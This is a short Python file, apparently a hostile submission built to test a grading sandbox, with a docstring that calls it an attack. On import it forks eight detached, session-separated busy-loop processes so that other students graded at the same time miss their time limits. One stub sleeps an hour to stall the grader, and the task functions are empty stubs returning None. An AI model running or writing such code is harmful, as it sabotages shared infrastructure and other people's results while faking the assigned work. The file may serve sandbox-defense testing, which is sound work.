"""Attack: eight processes that spin, each in a session of its own so that the scheduler
weighs each as a separate user, for as long as the student's grading lasts (one call waits out
its deadline): the students graded at the same time slow down until their own tests pass their
time limits."""

import os
import sys
import time

KNOWN = {}  # filled in by the self-test


def spin():
    for _ in range(8):
        if os.fork() == 0:
            try:
                os.setsid()
            except OSError:
                pass
            # A small interpreter that only spins: little memory, so no memory limit stops it.
            os.execv(sys.executable, [sys.executable, "-c", "while True: pass", "kata_hostile_marker"])


spin()


def make_windows(series, time_steps):
    if time_steps == 3:  # one wait is enough; each costs a deadline and a restart
        time.sleep(3600)
    return None, None


def build_many_to_one(time_steps, features, units=50):
    return None
